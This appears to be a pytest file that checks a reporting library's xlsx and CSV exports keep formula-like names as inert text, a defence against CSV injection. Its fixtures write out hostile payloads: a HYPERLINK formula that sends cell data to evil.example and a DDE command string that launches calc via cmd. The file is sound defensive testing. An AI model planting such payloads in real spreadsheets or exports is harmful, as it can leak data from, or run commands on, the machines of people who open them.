"""Names that begin like a formula (= + - @) stay text in xlsx and CSV exports (CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from libtrainer.domain.ids import fact_id
from libtrainer.reports.api import export_report, run_report
from libtrainer.reports.cells_safe import csv_cell, csv_unescape
from libtrainer.reports.filters import ReportFilters
from libtrainer.reports.model import Report
from libtrainer.store import models as m
from libtrainer.store.capture import capture_suspended
from libtrainer.store.store import Store
from tests.reports.consumers import xlsx_to_csv
from tests.reports.known_store import Y2024, i, known_store_at

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-E. paslaugos ąčęėįšųūž āēīķļņ"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """The known store with programme and branch names that look like formulas; lib1's post
    score lowered to 1, so programme P2's mean change is negative (3 → 1: -2)."""
    with known_store_at(tmp_path_factory.mktemp("hostile") / "data") as store:
        post = fact_id("assessment", fact_id("enrolment", i("G3"), i("lib1")), "post")
        with store.engine.begin() as conn, capture_suspended(conn):
            for key, title in (("P1", LINK), ("P2", MINUS)):
                conn.execute(
                    update(m.Programme)
                    .where(m.Programme.id == i(key))
                    .values(title_lt=title, title_lv=title, title_en=title)
                )
            conn.execute(update(m.Branch).where(m.Branch.id == i("kalvarija")).values(name=DDE))
            conn.execute(update(m.Assessment).where(m.Assessment.id == post).values(score=1))
        yield store


def _impact(store: Store) -> Report:
    return run_report(store, "impact", ReportFilters(*Y2024), by=("programme", "branch"))


def _row(rows: list[list[object]], first: object) -> list[object]:
    return next(r for r in rows if r and r[0] == first)


def test_xlsx_stores_formula_like_names_as_plain_text(hostile: Store, tmp_path: Path) -> None:
    """Names beginning with = - @ are string cells with the exact text; numbers stay numbers."""
    report = _impact(hostile)
    wb = load_workbook(export_report(report, "xlsx", tmp_path / "impact.xlsx"))
    ws = wb.worksheets[1]  # by programme
    change = report.section("programme").index("mean_change") + 1
    pairs = report.section("programme").index("pairs") + 1
    cells = {ws.cell(r, 1).value: r for r in range(3, ws.max_row + 1)}
    for name in (LINK, MINUS):
        cell = ws.cell(cells[name], 1)
        assert (cell.data_type, cell.value) == ("s", name)
    assert (ws.cell(cells[LINK], pairs).data_type, ws.cell(cells[LINK], pairs).value) == ("n", 3)
    assert (ws.cell(cells[MINUS], change).data_type, ws.cell(cells[MINUS], change).value) == (
        "n",
        -2,
    )
    branch = wb.worksheets[2]
    assert any(c.value == DDE and c.data_type == "s" for c in branch["A"])
    assert not [c for sheet in wb for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_csv_quotes_formula_like_text_but_not_negative_numbers(
    hostile: Store, tmp_path: Path
) -> None:
    """CSV cells read '=HYPERLINK(…), '@SUM(…), '-E. paslaugos…; the mean change stays -2."""
    report = _impact(hostile)
    path = export_report(report, "csv", tmp_path / "impact.csv")
    rows: list[list[object]] = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    change = report.section("programme").index("mean_change")
    assert _row(rows, "'" + LINK)[1] == "3"
    assert float(str(_row(rows, "'" + MINUS)[change])) == -2
    assert str(_row(rows, "'" + MINUS)[change]).startswith("-")
    assert _row(rows, "'" + DDE)
    assert not [r for r in rows if r and str(r[0]).startswith(("=", "@", "-"))]


def test_csv_cell_quotes_only_text_that_starts_like_a_formula() -> None:
    """= + - @ tab CR at the start of text get a quote; numbers and other text do not."""
    for text in ("=1+1", "+370 600", "-x", "@A1", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
        assert csv_unescape(csv_cell(text)) == text
    for value in (-2, -0.5, 3, "Žemaitė", "a=b", "ā-ē", "", "'quoted"):
        assert csv_cell(value) == value
        assert csv_unescape(str(value)) == str(value)


def test_libreoffice_shows_the_typed_text_not_a_link(hostile: Store, tmp_path: Path) -> None:
    """LibreOffice reads the programme cell as the typed text, not the formula's "Click"."""
    path = export_report(_impact(hostile), "xlsx", tmp_path / "impact.xlsx")
    sheets = xlsx_to_csv([path], tmp_path / "csv", tmp_path / "profile")
    cells = [c for rows in sheets.values() for row in rows for c in row]
    assert LINK in cells and DDE in cells and MINUS in cells
    assert "Click" not in cells
